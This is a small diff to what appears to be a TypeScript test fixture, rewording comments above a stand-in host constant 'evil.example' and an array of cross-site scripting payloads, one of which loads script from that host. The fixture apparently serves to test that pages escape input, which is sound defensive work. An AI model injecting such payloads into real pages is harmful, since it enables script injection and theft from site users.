@@ -1,7 +1,7 @@
-/** Where a payload would call if it ran: nobody listens there, and a request to it is a leak. */
+/** The address that a payload would call if it ran. Nothing listens there, and a request to it is a leak. */
 const EVIL = 'https://evil.example';
 
-/** Text that becomes code where somebody forgets that it is text. Short enough for a name. */
+/** Texts that would run as code if a page did not escape them. Each is short enough for a name. */
 export const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   `<script src="${EVIL}/x.js"></script>`,
